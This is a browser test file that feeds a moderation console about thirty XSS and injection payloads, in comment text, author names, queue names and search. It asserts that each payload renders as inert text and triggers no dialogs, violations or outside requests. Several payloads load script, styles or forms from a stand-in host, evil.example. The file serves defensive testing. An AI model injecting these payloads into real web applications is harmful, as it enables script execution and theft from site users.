import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../support/test-app.js';
import { noChromium, openBrowser, openTab } from './support/browser.js';
import { buildConsole } from './support/build.js';
import { addPage } from './support/comments.js';
import { inFront, signIn } from './support/sign-in.js';

/** Strings that do harm where a page puts text into markup, an address, a style or a script. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">read more</a>',
  'javascript:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>Approve</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  `\${alert(1)}`,
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<img src="https://evil.example/pixel.gif">',
  '<video src=https://evil.example/v.mp4 autoplay>',
  '<object data="https://evil.example/x.swf"></object>',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '__proto__',
  'constructor',
];

describe.skipIf(noChromium)('hostile text in the console', { timeout: 90_000 }, () => {
  let app: TestApp;
  let browser: Browser;

  beforeAll(async () => {
    await buildConsole();
    [app, browser] = await Promise.all([startTestApp(), openBrowser()]);
  });
  afterAll(async () => {
    await browser?.close();
    await app?.close();
  });

  it('stands as text wherever it is shown, and sets nothing off', async () => {
    const { pageId, items } = await addPage(
      app,
      '<img src=x onerror=alert("title")>',
      HOSTILE.map((text, at) => ({
        text,
        author: text,
        reasons: [text],
        queue: at % 2 === 0 ? 'tone' : '<b onclick=alert(1)>queue',
        priority: 1 - at / 100,
      })),
    );
    const { page, incidents } = await openTab(browser, app.url);
    await signIn(app, page, '<img src=x onerror=alert(1)>', 'lead');
    for (const [at, { itemId }] of items.entries()) {
      await inFront(page, itemId);
      expect(await page.locator('.prose').textContent()).toBe(HOSTILE[at]);
      expect(await page.locator('.comment-by .author').textContent()).toBe(HOSTILE[at]);
      await page.keyboard.press(at % 2 === 0 ? 'a' : 's');
    }
    await page.goto(`${app.url}/pages/${pageId}`);
    await page.locator('.part-comment').first().waitFor();
    expect(await page.locator('.part-comment .part-text').allTextContents()).toEqual(HOSTILE);
    await page.goto(`${app.url}/history`);
    await page.locator('.log tbody tr').first().waitFor();
    await page.keyboard.press('/');
    await page.keyboard.type('<script>alert(1)');
    await page.waitForTimeout(500);
    expect(await page.locator('main script, main iframe, main img, main object, main form, main base').count()).toBe(0);
    expect(incidents).toEqual({ dialogs: [], violations: [], foreignRequests: [], errors: [] });
  });
});
